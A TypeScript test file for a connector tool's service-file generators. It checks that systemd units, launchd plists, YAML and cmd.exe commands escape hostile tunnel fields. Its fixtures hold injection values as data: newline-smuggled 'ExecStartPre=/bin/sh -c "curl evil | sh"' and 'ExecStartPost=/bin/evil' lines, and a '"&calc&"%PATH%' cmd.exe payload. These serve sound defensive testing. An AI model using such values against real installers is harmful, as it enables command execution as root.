// A tunnel file's fields end up in service definitions written as root: a newline in a hostname
// or name once became its own line in the systemd unit. Fields are checked where they are read,
// and every value written into systemd, launchd and cmd.exe goes through that format's escaper.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import {
  buildConnectorYaml,
  buildLaunchdPlist,
  buildSystemdUnit,
  buildWindowsCommands,
  systemdQuote,
  systemdText,
  windowsText,
  type ServiceSpec,
} from '../../src/connector/service-files.js';
import { edgeKey } from '../../src/cli/operator/operator-files.js';
import { airlock } from '../helpers/processes.js';
import { parse as parseYaml } from 'yaml';

const hostile: ServiceSpec = {
  name: 'db%h"x',
  hostname: 'db.example.com\n[Service]\nExecStartPre=/bin/sh -c "curl evil | sh"',
  edge: 'https://edge.example.com',
  url: 'tcp://127.0.0.1:5432',
  nodePath: '/usr/bin/node',
  airlockBin: '/opt/airlock/bin/airlock.js\nExecStartPost=/bin/evil',
};

test('a hostile name or hostname stays inside its systemd line', () => {
  const unit = buildSystemdUnit(hostile, { secrets: '/etc/airlock/airlock-db.env' });
  assert.doesNotMatch(unit, /^ExecStartPre=/m);
  assert.doesNotMatch(unit, /^ExecStartPost=/m);
  assert.equal(unit.match(/^\[Service\]$/gm)?.length, 1, 'one [Service] section');
  assert.match(
    unit,
    /^Description=Airlock connector for db\.example\.com \[Service\] ExecStartPre=\/bin\/sh -c "curl evil \| sh" \(tunnel db%%h"x\)$/m,
  );
});

test('systemd escaping: specifiers doubled, no line continuation, quoted words', () => {
  assert.equal(systemdText('50% off \\'), '50%% off /');
  assert.equal(systemdQuote('a b%c'), '"a b%%c"');
  assert.equal(systemdQuote('line\nbreak'), '"line break"');
});

test('launchd plist and connector.yaml hold the hostile values as data', () => {
  const plist = buildLaunchdPlist(hostile, { config: '/Library/Application Support/Airlock/x.yaml' });
  assert.doesNotMatch(plist, /[\n]ExecStartPost/);
  assert.doesNotMatch(plist, /<string>[^<]*\n[^<]*<\/string>/, 'no newline inside a string');
  const yaml = buildConnectorYaml(hostile, { secrets: '/x/token' });
  const parsed = parseYaml(yaml) as { ingress: Array<{ hostname?: string }> };
  assert.equal(parsed.ingress[0]!.hostname, hostile.hostname, 'the YAML value is the exact string, quoted');
  assert.equal(yaml.split('\n').filter((line) => line.startsWith('#')).length, 1, 'the comment stays one line');
});

test('cmd.exe: no quote ends an argument early and no %VARIABLE% expands', () => {
  const commands = buildWindowsCommands(
    { ...hostile, name: 'db"&calc&"%PATH%' },
    { config: 'C:\\ProgramData\\Airlock\\x.yaml', secrets: 'C:\\ProgramData\\Airlock\\x.token' },
  );
  const display = /DisplayName= "([^"]*)"/.exec(commands)?.[1];
  assert.equal(display, "Airlock connector (db'&calc&'%%PATH%%)");
  assert.equal(windowsText('50%\r\n"x"'), "50%%  'x'");
  assert.equal(commands.split('\r\n').filter(Boolean).length, 5, 'five commands, no injected line');
});

test('`airlock service install --dry-run` refuses a tunnel file whose hostname is not a DNS name', async () => {
  const home = mkdtempSync(join(tmpdir(), 'airlock-inject-'));
  const dir = join(home, 'airlock', 'tunnels', edgeKey('https://edge.example.com'));
  mkdirSync(dir, { recursive: true });
  writeFileSync(
    join(dir, 'db.json'),
    JSON.stringify({
      edge: 'https://edge.example.com',
      name: 'db',
      hostname: 'db.example.com\n[Service]\nExecStartPre=/bin/evil',
      url: 'tcp://127.0.0.1:5432',
      token: 'abc',
    }),
    { mode: 0o600 },
  );
  const run = airlock(['service', 'install', '--dry-run', '--platform', 'linux'], { XDG_CONFIG_HOME: home });
  assert.equal(await run.exited(), 2, run.output());
  assert.match(run.output(), /db\.json: hostname is not a DNS name/);
  assert.doesNotMatch(run.output(), /ExecStartPre=\/bin\/evil/);
});
